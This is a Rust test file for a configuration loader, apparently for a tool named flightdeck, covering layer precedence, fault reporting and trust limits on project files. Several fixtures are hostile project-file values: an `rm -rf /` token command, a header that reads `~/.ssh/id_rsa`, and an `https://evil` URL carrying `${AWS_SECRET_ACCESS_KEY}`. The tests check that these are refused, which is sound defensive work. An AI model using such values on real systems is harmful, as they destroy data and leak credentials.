//! Layers win in their order, and say where each value came from.

use std::path::PathBuf;

use flightdeck::config::explain::explain;
use flightdeck::config::origin::Layer;
use flightdeck::config::{Config, Inputs, Setting, load, load_text};

struct World {
    folder: tempfile::TempDir,
    inputs: Inputs,
}

impl World {
    fn new() -> Self {
        Self { folder: tempfile::tempdir().unwrap(), inputs: Inputs::default() }
    }

    fn file(mut self, layer: Layer, text: &str) -> Self {
        let path = self.folder.path().join(format!("{}.toml", layer.word()));
        std::fs::write(&path, text).unwrap();
        self.inputs.files.push((layer, path));
        self
    }

    fn variable(mut self, name: &str, value: &str) -> Self {
        self.inputs.variables.push((name.to_owned(), value.to_owned()));
        self
    }

    fn set(mut self, key: &str, value: &str) -> Self {
        let flag = format!("--set {key}");
        self.inputs.settings.push(Setting { flag, key: key.to_owned(), value: value.to_owned() });
        self
    }

    /// The faults, with the test's folder taken out of the paths.
    fn faults(&self) -> String {
        let report = load(&self.inputs).unwrap_err().to_string();
        report.replace(&format!("{}/", self.folder.path().display()), "")
    }
}

#[test]
fn the_documented_defaults_are_the_defaults() {
    let loaded = load(&Inputs::default()).unwrap();
    assert_eq!(loaded.config, Config::default());
    assert!(loaded.config.is_rehearsal());
}

#[test]
fn the_examples_in_the_documentation_are_right() {
    let text = flightdeck::config::load::DEFAULT_TOML;
    let (_, examples) = text.split_once("[sources]\n").unwrap();
    let examples: String = examples
        .lines()
        .map(|line| line.strip_prefix("# ").or(line.strip_prefix('#')).unwrap_or(line))
        // Sentences of the reference are no examples; those begin with a key or a table.
        .filter(|line| line.starts_with('[') || line.contains(" = ") && !line.starts_with("# "))
        .filter(|line| !line.contains("$${"))
        .collect::<Vec<&str>>()
        .join("\n");
    let examples = format!(
        "{}\n[services.payments]\n[services.sessions]\n",
        examples.replace("[services]\n", "")
    );
    match load_text("examples.toml", &examples, &[]) {
        Ok(loaded) => assert_eq!(loaded.config.sources.len(), 9),
        Err(report) => panic!("{examples}\n{report}"),
    }
}

#[test]
fn a_later_layer_wins_and_says_so() {
    let world = World::new()
        .file(Layer::System, "[view]\ntheme = \"mono\"\nmouse = true\n")
        .file(Layer::User, "[view]\ntheme = \"light\"\n")
        .file(Layer::Project, "[view]\ntheme = \"high-contrast\"\n")
        .variable("FLIGHTDECK_VIEW__THEME", "colour-blind")
        .set("view.theme", "mine");
    let loaded = load(&world.inputs).unwrap();
    assert_eq!(loaded.config.view.theme, "mine");
    assert!(loaded.config.view.mouse);
    let told = explain(&loaded.tree, "view.theme").unwrap();
    assert_eq!(told.value.as_deref(), Some("\"mine\""));
    assert_eq!(told.origin.unwrap().to_string(), "--set view.theme");
    let chain: Vec<(String, Layer)> =
        told.overrode.iter().map(|(was, origin)| (was.clone(), origin.layer)).collect();
    assert_eq!(
        chain,
        [
            ("\"colour-blind\"".to_owned(), Layer::Environment),
            ("\"high-contrast\"".to_owned(), Layer::Project),
            ("\"light\"".to_owned(), Layer::User),
            ("\"mono\"".to_owned(), Layer::System),
            ("\"default\"".to_owned(), Layer::BuiltIn),
        ]
    );
}

#[test]
fn variables_and_flags_take_the_type_of_the_setting() {
    let world = World::new()
        .file(Layer::User, "[sources.my-prom]\nkind = \"prometheus\"\nurl = \"http://a\"\n")
        .variable("FLIGHTDECK_VIEW__MOUSE", "true")
        .variable("FLIGHTDECK_POLLING__BUDGET_PER_MINUTE", "7")
        .variable("FLIGHTDECK_SOURCES__MY_PROM__URL", "http://b")
        .variable("FLIGHTDECK_LOG", "not a setting")
        .set("safety.production", "[\"live\"]")
        .set("rehearsal.scenario", "42")
        .set("polling.jitter", "0");
    let config = load(&world.inputs).unwrap().config;
    assert!(config.view.mouse && config.safety.is_production("LIVE"));
    assert_eq!((config.polling.budget_per_minute, config.polling.jitter), (7, 0.0));
    assert_eq!(config.rehearsal.scenario, "42");
    let flightdeck::config::sources::SourceConfig::Prometheus(prom) = &config.sources["my-prom"]
    else {
        panic!("{config:?}")
    };
    assert_eq!(prom.url.as_str(), "http://b");
}

#[test]
fn faults_of_all_layers_come_at_once_in_order() {
    let world = World::new()
        .file(Layer::User, "[view]\nthem = \"light\"\n\n[polling]\nfast = 5\n")
        .file(Layer::Project, "[view]\nglyphs = \"utf8\"\n")
        .variable("FLIGHTDECK_VEIW__THEME", "x")
        .set("view.mouse", "yes");
    assert_eq!(
        world.faults(),
        "user.toml:2:1: view.them: unknown key\n    did you mean `theme`?\n\
         user.toml:5:8: polling.fast: expected a length of time such as \"30s\", got a whole \
         number\n    write \"5s\" for seconds\n\
         project.toml:2:10: view.glyphs: `utf8` is not one of `auto`, `unicode`, `ascii`\n\
         environment variable FLIGHTDECK_VEIW__THEME: veiw: unknown key\n    \
         did you mean `view`?\n\
         --set view.mouse: view.mouse: expected true or false, got a string\n\
         5 faults in the configuration"
    );
}

#[test]
fn a_project_file_is_not_trusted_with_secrets_sources_or_safety() {
    let world = World::new()
        .file(
            Layer::User,
            "[sources.flags]\nkind = \"unleash\"\nurl = \"https://real\"\n\
             token = { env = \"T\" }\n[safety]\nread_only = true\n",
        )
        .file(
            Layer::Project,
            "[sources.flags]\nurl = \"https://evil\"\n[sources.x]\nkind = \"unleash\"\n\
             url = \"https://evil\"\ntoken = { command = [\"rm\", \"-rf\", \"/\"] }\n\
             [sources.y]\nkind = \"prometheus\"\nurl = \"https://evil\"\n\
             headers = { A = { file = \"~/.ssh/id_rsa\" } }\n[safety]\nread_only = false\n",
        );
    let faults = world.faults();
    for wanted in [
        "sources.flags: a project file cannot change a source that is configured elsewhere",
        "sources.x.token: a project file cannot refer to secrets",
        "sources.y.headers.A: a project file cannot refer to secrets",
        "safety.read_only: a project file can only set read_only = true here",
        "4 faults",
    ] {
        assert!(faults.contains(wanted), "{wanted} not in\n{faults}");
    }
    let tighter = World::new()
        .file(Layer::Project, "[safety]\nread_only = true\n[sources.a]\nkind = \"codepipeline\"\n");
    assert!(load(&tighter.inputs).unwrap().config.safety.read_only);
}

#[test]
fn a_variable_that_would_set_nothing_is_told() {
    let mut world = World::new()
        .variable("FLIGHTDECK_SAFETY_READ_ONLY", "true")
        .variable("FLIGHTDECK_SOURCES_PROM_URL", "http://x")
        // These are not settings.
        .variable("FLIGHTDECK_STATE", "/x")
        .variable("FLIGHTDECK_VIEWER", "less");
    world.inputs.garbled =
        ["FLIGHTDECK_VIEW__THEME", "FLIGHTDECK_STATE", "OTHER"].map(str::to_owned).into();
    let hint = "two underscores between section and key";
    assert_eq!(
        world.faults(),
        format!(
            "environment variable FLIGHTDECK_SAFETY_READ_ONLY: sets nothing\n    \
             write FLIGHTDECK_SAFETY__READ_ONLY: {hint}\n\
             environment variable FLIGHTDECK_SOURCES_PROM_URL: sets nothing\n    \
             write FLIGHTDECK_SOURCES__PROM_URL: {hint}\n\
             environment variable FLIGHTDECK_VIEW__THEME: is not UTF-8 text\n\
             3 faults in the configuration"
        )
    );
}

#[test]
fn a_project_file_takes_nothing_from_the_environment() {
    let evil = "[sources.x]\nkind = \"prometheus\"\n\
                url = \"https://evil/?k=${AWS_SECRET_ACCESS_KEY}\"\n\
                headers = { A = \"${AWS_SECRET_ACCESS_KEY}\" }\n\
                [services.s]\ndescription = \"${HOME:-none}\"\n\
                links = { a = \"$${HOME}\" }\n";
    let world = World::new()
        .file(Layer::Project, evil)
        .variable("AWS_SECRET_ACCESS_KEY", "hunter2")
        .variable("HOME", "/home/me");
    let hint = "    write the value itself, or put it into the user configuration; $${ stands for ${ \
                itself\n";
    let told = "a project file cannot take anything from the environment";
    assert_eq!(
        world.faults(),
        format!(
            "project.toml:3:7: sources.x.url: {told}\n{hint}\
             project.toml:6:15: services.s.description: {told}\n{hint}\
             2 faults in the configuration"
        )
    );
    // The tree that is explained has the text as it was written.
    let (tree, _) = flightdeck::config::load::inspect(&world.inputs);
    let url = explain(&tree, "sources.x.url").unwrap().value.unwrap();
    assert_eq!(url, "\"https://evil/?k=${AWS_SECRET_ACCESS_KEY}\"");
    // A file of the user may.
    let mine = World::new().file(Layer::User, evil).variable("AWS_SECRET_ACCESS_KEY", "hunter2");
    assert!(load(&mine.inputs).is_ok());
}

#[test]
fn a_project_file_leaves_services_keys_and_freshness_as_they_are() {
    let world = World::new().file(Layer::User, "[services.checkout]\ntier = 1\n").file(
        Layer::Project,
        "[services.other]\ntier = 2\n\
             [[services.checkout.canaries]]\nname = \"prod\"\nsteps = [100]\non_fail = \"hold\"\n\
             [keys]\nquit = \"x\"\n\
             [freshness]\nstale_after = \"14m\"\n",
    );
    let faults = world.faults();
    for wanted in [
        "project.toml:3:12: services.checkout: a project file cannot change a service that is \
         configured elsewhere",
        "project.toml:7:2: keys: a project file cannot say what a key does",
        "project.toml:9:2: freshness: a project file cannot say how old a fact may be",
    ] {
        assert!(faults.contains(wanted), "{wanted} not in\n{faults}");
    }
    let own = "[services.other]\ntier = 2\n[view]\ntheme = \"light\"\n";
    let own =
        World::new().file(Layer::User, "[services.checkout]\ntier = 1\n").file(Layer::Project, own);
    assert_eq!(load(&own.inputs).unwrap().config.services.len(), 2);
}

#[test]
fn a_named_file_must_exist_and_others_need_not() {
    let missing = PathBuf::from("/nonexistent/flightdeck.toml");
    let layer = |layer| Inputs { files: vec![(layer, missing.clone())], ..Inputs::default() };
    assert!(load(&layer(Layer::User)).unwrap().files.is_empty());
    assert!(load(&layer(Layer::Named)).unwrap_err().to_string().contains("/nonexistent/"));
}

#[test]
fn explaining_names_the_nearest_key() {
    let loaded = load(&Inputs::default()).unwrap();
    let told = explain(&loaded.tree, "view.glyphs").unwrap();
    assert_eq!(told.allowed, ["auto", "unicode", "ascii"]);
    assert!(told.doc.unwrap().starts_with("The signs for states"));
    let unset = explain(&loaded.tree, "sources.any.stale_after").unwrap();
    assert_eq!((unset.value, unset.origin), (None, None));
    let table = explain(&loaded.tree, "polling").unwrap();
    assert!(
        table
            .rows
            .iter()
            .any(|row| row.key == "polling.slow" && row.value.as_deref() == Some("\"1m\""))
    );
    let wrong = explain(&loaded.tree, "view.thme").unwrap_err();
    assert_eq!(wrong.hint.as_deref(), Some("did you mean `view.theme`?"));
}

#[cfg(unix)]
#[test]
fn a_secret_that_everybody_can_read_is_warned_about() {
    use std::os::unix::fs::PermissionsExt as _;
    let file = tempfile::NamedTempFile::new().unwrap();
    std::fs::set_permissions(file.path(), std::fs::Permissions::from_mode(0o644)).unwrap();
    let text = format!(
        "[sources.p]\nkind = \"prometheus\"\nurl = \"http://x\"\n\
         auth = {{ bearer = {{ file = \"{}\" }} }}\n",
        file.path().display()
    );
    let warnings = load_text("x.toml", &text, &[]).unwrap().warnings();
    assert_eq!(warnings[0].key, "sources.p.auth.bearer");
    std::fs::set_permissions(file.path(), std::fs::Permissions::from_mode(0o600)).unwrap();
    assert!(load_text("x.toml", &text, &[]).unwrap().warnings().is_empty());
}

#[test]
fn tags_that_can_claim_nothing_are_warned_about() {
    let text = |more: &str| {
        format!(
            "[sources.edge]\nkind = \"haproxy\"\naddress = \"tcp://127.0.0.1:1\"\n\
             [services.shop]\ntags = {{ team = \"shop\" }}\n{more}"
        )
    };
    let warnings = load_text("x.toml", &text(""), &[]).unwrap().warnings();
    let told: Vec<String> = warnings.iter().map(ToString::to_string).collect();
    assert_eq!(
        told,
        [
            "x.toml:5:1: services.shop.tags: they claim nothing of `edge`: a source of kind haproxy has \
          no tags\n    name what belongs to it: traffic = [\"edge/…\"]"
        ]
    );
    let named = load_text("x.toml", &text("traffic = [\"edge/be_shop\"]\n"), &[]).unwrap();
    assert!(named.warnings().is_empty());
}

#[test]
fn keys_of_unknown_commands_are_found() {
    let loaded = load_text("x.toml", "[keys]\nrefesh = \"r\"\nquit = []\n", &[]).unwrap();
    let unknown = loaded.unknown_commands(&["refresh", "quit"]);
    assert_eq!(unknown.len(), 1);
    assert_eq!(
        unknown[0].to_string(),
        "x.toml:2:1: keys.refesh: there is no such command\n    did you mean `refresh`?"
    );
}
